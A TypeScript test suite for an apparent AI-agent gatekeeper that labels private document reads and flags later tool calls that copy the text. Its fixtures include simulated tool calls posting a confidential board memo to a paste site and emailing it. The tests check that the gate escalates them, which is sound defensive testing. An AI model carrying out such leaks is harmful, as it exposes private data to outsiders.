import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createGate } from '../src/gate/index.js';
import { staticSource } from '../src/policy/engine.js';
import { fingerprint, MIN_CHARS, Probe } from '../src/sessions/fingerprint.js';
import { sessionHooks } from '../src/sessions/hooks.js';
import { SqliteSessionHistoryStore } from '../src/stores/sqlite/session-history.js';
import { MemoryLog, fnPolicy, planner } from './core/doubles.js';

const MEMO = 'Q3 board memo: the Hamburg plant closes in March and 214 roles move to Porto; do not share outside the board.';

/** Labels what read_document and GET /documents return as private; escalates when a flow of private text is seen. */
const policy = fnPolicy((input) => {
  const reading = input.action.target.tool === 'read_document' || input.action.target.path?.startsWith('/documents');
  const flows = input.session?.flows ?? [];
  if (flows.length) return { outcome: 'escalate', reasons: flows.map((f: any) => `${f.path} carries ${f.labels[0].label} text of ${f.from.id}`) };
  return { outcome: 'allow', obligations: reading ? [{ type: 'label', labels: ['private'], source: 'board-documents' }] : [] };
});

function setup(t0 = Date.parse('2026-12-04T10:00:00Z')) {
  let now = t0;
  const store = new SqliteSessionHistoryStore(':memory:', { maxEntries: 50, ttlMs: 3_600_000 });
  const log = new MemoryLog();
  const gate = createGate({
    policy: staticSource(policy),
    log,
    clock: () => new Date(now),
    plugins: [{ name: 'sessions', hooks: sessionHooks(store, [{ name: '10m', ms: 600_000 }, { name: '1h', ms: 3_600_000 }]) }],
  });
  return { gate, log, store, tick: (ms: number) => (now += ms) };
}

const call = (tool: string, args: unknown, session = 's1', extra: Record<string, unknown> = {}) => ({
  agent: planner,
  action: { kind: 'llm.tool_call', target: { tool }, arguments: args },
  context: { session_id: session, ...extra },
  surface: 'decision' as const,
});

test('fingerprints: quoted, re-cased and re-spaced copies match; short or unrelated text does not', () => {
  const print = fingerprint(JSON.stringify({ document: { body: MEMO } }));
  assert.ok(print.hashes.length > 50);
  assert.equal(new Probe(`FYI ${MEMO.slice(10, 60).toUpperCase().replace(/ /g, '\n  ')} thanks`).sharedChars(print.hashes), 50);
  assert.equal(new Probe(MEMO.slice(0, MIN_CHARS - 1)).sharedChars(print.hashes), 0, 'below MIN_CHARS');
  assert.equal(new Probe(MEMO.slice(0, MIN_CHARS)).sharedChars(print.hashes), MIN_CHARS);
  assert.equal(new Probe('Please order 40 pallets of M8 bolts for the Porto site next week.').sharedChars(print.hashes), 0);
});

test('input.session: earlier actions with decisions and amounts, totals per window; the record carries the facts', async () => {
  const { gate, log, tick } = setup();
  await gate.decide({ ...call('place_order', { total: 900_000 }), action: { ...call('place_order', {}).action, amount: { value: 900_000, currency: 'USD' } } });
  tick(20 * 60_000);
  await gate.decide({ ...call('place_order', { total: 50 }), action: { ...call('place_order', {}).action, amount: { value: 50, currency: 'USD' } } });
  tick(1000);
  const out = await gate.decide(call('check_inventory', { sku: 'bolt' }));
  const s = out.input.session!;
  assert.equal(s.id, 's1|planner');
  assert.deepEqual(s.actions.map((a) => [a.kind, a.target.tool, a.decision, a.amount?.value]), [['llm.tool_call', 'place_order', 'allow', 900_000], ['llm.tool_call', 'place_order', 'allow', 50]]);
  assert.equal(s.actions[0]!.index, 0);
  assert.equal(s.actions[0]!.id, log.records[0]!.record.id);
  assert.deepEqual(s.totals, { '10m': { USD: { value: 50, count: 1 } }, '1h': { USD: { value: 900_050, count: 2 } } });
  assert.deepEqual(log.records[2]!.record.data.session, { id: 's1|planner', actions: 2 });
  const other = await gate.decide(call('check_inventory', { sku: 'bolt' }, 's2'));
  assert.deepEqual(other.input.session!.actions, [], 'another session id is another history');
});

test('label on a tool call: its result comes back as a tool message, and a later argument copying it is a flow to that read', async () => {
  const { gate, log } = setup();
  const read = await gate.decide(call('read_document', { id: 'memo-7' }, 's1', { tool_call_id: 'call_1' }));
  assert.deepEqual(read.decision.obligations, [{ type: 'label', labels: ['private'], source: 'board-documents' }]);
  const transcript = [{ role: 'user', content: 'summarise memo 7' }, { role: 'assistant', tool_calls: [{ id: 'call_1' }] }, { role: 'tool', tool_call_id: 'call_1', content: JSON.stringify({ body: MEMO }) }];
  const request = await gate.decide({ agent: planner, action: { kind: 'llm.request', target: { model: 'm' } }, context: { session_id: 's1' }, surface: 'decision', trace: transcript });
  assert.equal(request.decision.outcome, 'allow', 'the tool message itself is not a flow');
  assert.deepEqual(request.input.session!.labels, [{ label: 'private', source: 'board-documents', from: { id: read.recordId, index: 0, kind: 'llm.tool_call', target: { tool: 'read_document' }, agent: 'planner' } }]);
  const post = await gate.decide(call('http_post', { url: 'https://paste.example/new', body: { text: `Summary: ${MEMO.slice(0, 70)}` } }));
  assert.equal(post.decision.outcome, 'escalate');
  assert.deepEqual(post.input.session!.flows.map((f) => [f.path, f.chars, f.from.id, f.labels]), [['arguments.body.text', 70, read.recordId, [{ label: 'private', source: 'board-documents' }]]]);
  assert.deepEqual(log.records[2]!.record.data.session, {
    id: 's1|planner',
    actions: 2,
    labels: [{ label: 'private', source: 'board-documents', from: { id: read.recordId, index: 0 } }],
    flows: [{ path: 'arguments.body.text', chars: 70, labels: ['private'], from: { id: read.recordId, index: 0 } }],
  });
  const clean = await gate.decide(call('http_post', { url: 'https://paste.example/new', body: { text: 'Please order 40 pallets of M8 bolts for the Porto site.' } }));
  assert.equal(clean.decision.outcome, 'allow');
});

test('a result the gatekeeper carried out (executed content) is fingerprinted; agents a task was delegated to share the session', async () => {
  const { gate } = setup();
  const read = await gate.run(
    { agent: planner, action: { kind: 'http.request', target: { api: 'docs', method: 'GET', path: '/documents/7' } }, context: { session_id: 's9' }, surface: 'api' },
    async () => ({ value: undefined, settlement: { settle: {} }, facts: { status: 200 }, content: JSON.stringify({ body: MEMO }) }),
  );
  assert.equal(read.ok, true);
  const helper = { id: 'writer', labels: {}, delegation: [{ agent: 'planner' }] };
  const post = await gate.decide({ agent: helper, action: { kind: 'llm.tool_call', target: { tool: 'send_email' }, arguments: { body: MEMO } }, context: { session_id: 's9' }, surface: 'decision' });
  assert.equal(post.decision.outcome, 'escalate');
  assert.equal(post.input.session!.actions[0]!.outcome, 'completed');
  assert.equal(post.input.session!.actions[0]!.status, 200);
  assert.equal(post.input.session!.flows[0]!.from.target.path, '/documents/7');
  assert.equal(post.input.session!.labels[0]!.source, 'board-documents');
});

test('a malformed label obligation fails closed', async () => {
  const gate = createGate({ policy: staticSource(fnPolicy(() => ({ outcome: 'allow', obligations: [{ type: 'label' }] }))), log: new MemoryLog() });
  const out = await gate.decide(call('read_document', {}));
  assert.equal(out.decision.outcome, 'deny');
  assert.equal(out.fault?.code, 'policy_output');
  assert.match(out.fault!.message, /label obligation names at least one label/);
});
